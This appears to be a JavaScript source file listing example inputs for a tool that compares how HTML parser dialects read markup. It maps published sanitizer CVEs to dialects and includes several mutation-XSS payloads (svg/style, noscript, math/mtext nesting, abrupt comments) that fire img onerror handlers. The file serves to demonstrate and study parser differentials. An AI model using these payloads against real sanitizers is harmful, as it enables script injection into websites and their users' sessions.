// What the menu offers, by groups.
import published from '../cases.json';

/** The published cases of sanitizers in which dialects read the document differently, and which ones do. */
const PARTING = {
  'CVE-2019-16728': ['html5', 'html5-2014', 'html5:no-feedback'],
  'CVE-2020-26870': ['html5', 'html5:no-feedback', 'xml5'],
  'CVE-2025-26791': ['html5', 'html5:no-feedback', 'xml5'],
  'CVE-2021-42575': ['html5', 'html5:old-select', 'html5-2014'],
  'CVE-2025-66021': ['html5', 'html5:no-scripting'],
  'CVE-2022-28367': ['html5', 'html5:no-feedback', 'html-2008'],
  'CVE-2022-29577': ['html5', 'html-2008'],
  'CVE-2023-43643 (a)': ['html5', 'html5:no-scripting', 'html-2008'],
  'CVE-2023-43643 (b)': ['html5', 'html5:no-feedback', 'html-2008'],
  'CVE-2023-43643 (c)': ['html5', 'html5:no-feedback', 'html-2008'],
  'CVE-2020-6802': ['html5', 'html5:no-scripting', 'html-2008'],
  'CVE-2020-6816': ['html5', 'html-2008'],
  'CVE-2021-23980': ['html5', 'html5-2014', 'html-2008'],
};

const cases = Object.entries(PARTING).map(([name, dialects]) => {
  const found = published.find(one => one.number + (one.part ? ' (' + one.part + ')' : '') === name);
  return [name + ', ' + found.package, found.input, dialects];
});

/** Groups of examples: a name, the document, and the dialects that are shown. */
export const GROUPS = [
  ['To begin with', [
    ['A comment that ends elsewhere in 2008', '<p>A<!-- note --!> B', ['html5', 'html5-2014', 'html-2008']],
    ['Walkthrough: a link', '<a href="x">y</a>', ['html5', 'html-2008']],
    ['Walkthrough: a script', '<script>var s="</script>"</script>', ['html5', 'html-2008']],
  ]],
  ['Mutation XSS: published cases', cases],
  ['Mutation XSS: how they work', [
    ['A style in svg that a paragraph ends', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', ['html5', 'html5-2014', 'html-2008']],
    ['Noscript in a title', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', ['html5', 'html5:no-scripting']],
    ['Math, mtext and style', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', ['html5', 'html5:no-feedback', 'html5-2014']],
    ['An abrupt comment', '<!--><img src=x onerror=alert(1)>-->', ['html5', 'html-2008', 'xml5']],
  ]],
  ['2008, 2014, today', [
    ['CDATA in SVG', '<svg><text><![CDATA[ <b>x</b> ]]></text></svg>', ['html5', 'html5-2014', 'html-2008']],
    ['Processing instructions', '<?target data > <p>?></p>', ['html5', 'html5-2026-01', 'html5-2014']],
  ]],
  ['SGML and XML', [
    ['SGML: a marked section and a short tag', '<!DOCTYPE HTML>\n<p/short/ <![ IGNORE [ <b>gone</b> ]]> &lt x', ['sgml', 'sgml-full', 'html5']],
    ['A broken feed', '<?xml version="1.0"?>\n<rss><channel><title>A & B</title>\n<item><link>http://a.example/?x=1&y=2</item>\n</channel>', ['xml5', 'html5']],
  ]],
];

export const EXAMPLES = GROUPS.flatMap(([, examples]) => examples);
